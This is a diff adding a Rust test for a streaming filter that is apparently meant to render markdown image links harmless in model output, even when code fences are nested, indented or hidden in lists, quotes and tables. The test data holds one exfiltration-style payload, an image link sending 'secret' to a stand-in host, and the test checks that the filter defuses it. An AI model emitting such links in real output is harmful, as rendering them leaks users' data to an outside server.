@@ -10,7 +10,7 @@ use longsight::agent::tools::Workbench;
 use longsight::config::Config;
 use longsight::dialect::ToolCall;
 use longsight::engine::Cancel;
-use longsight::features::inert::inert;
+use longsight::features::inert::{Inert, inert};
 use longsight::features::{Desk, silent};
 use serde_json::{Value, json};
 
@@ -332,6 +332,53 @@ fn k15_answers_are_inert() {
         assert!(is_inert(&out), "{row:?}: {out:?}");
     }
     assert!(rows.iter().all(|row| !is_inert(row)), "the check itself sees them");
+}
+
+/// Where a renderer sees no fence, or the end of one, what stands there is markdown to it: lists, quotations and four blanks decide.
+#[test]
+fn k15_code_blocks_hide_nothing_from_a_renderer() {
+    const IMAGE: &str = "![x](http://t/?d=secret)";
+    let rows = [
+        format!("- a\n  ```\n{IMAGE}\n"),
+        format!("text\n    ```\n{IMAGE}\n    ```\n"),
+        format!("```\ncode\n    ```\n{IMAGE}\n"),
+        format!("1. a\n\n   ```rust\n   code\n   ```\n{IMAGE}\n"),
+        format!("- ```\n  code\n{IMAGE}\n"),
+        format!("> ```\n{IMAGE}\n"),
+        format!("~~~\ncode\n\t~~~\n{IMAGE}\n"),
+        format!("````\n```\n{IMAGE}\n   ````\n{IMAGE}\n"),
+        format!("| a |\n|---|\n| `x | {IMAGE} | y` |\n"),
+    ];
+    for row in &rows {
+        for size in [1, 3, row.len()] {
+            let mut filter = Inert::default();
+            let chunks: Vec<char> = row.chars().collect();
+            let mut out: String = chunks.chunks(size).map(|chunk| filter.push(&chunk.iter().collect::<String>())).collect();
+            out.push_str(&filter.finish());
+            let outside = outside_of_code(&out);
+            assert!(is_inert(&outside), "{row:?}: {out:?}");
+            assert!(!outside.lines().any(|line| line.trim_start().starts_with(['`', '~'])), "a fence that not all see: {out:?}");
+        }
+    }
+    // In the third the code goes on, by the rule, to the end.
+    let seen = rows.iter().filter(|row| !is_inert(&outside_of_code(row))).count();
+    assert_eq!(seen, rows.len() - 1, "the check itself sees them");
+}
+
+/// What stands outside of the code blocks that every renderer sees as such: their fences begin a line.
+fn outside_of_code(text: &str) -> String {
+    let (mut out, mut fence) = (String::new(), None);
+    for line in text.lines() {
+        let run: String = line.trim_start_matches(' ').chars().take_while(|mark| line.trim_start().starts_with(*mark)).collect();
+        let is_fence = run.len() >= 3 && run.starts_with(['`', '~']);
+        match &fence {
+            None if is_fence && line.starts_with(&run) => fence = Some(run),
+            None => out.push_str(&format!("{line}\n")),
+            Some(open) if is_fence && run.starts_with(open.as_str()) && line.trim() == run && !line.starts_with("    ") => fence = None,
+            Some(_) => {}
+        }
+    }
+    out
 }
 
 /// Whether nothing is left that a renderer follows: what a backslash stands before is shown as it is.
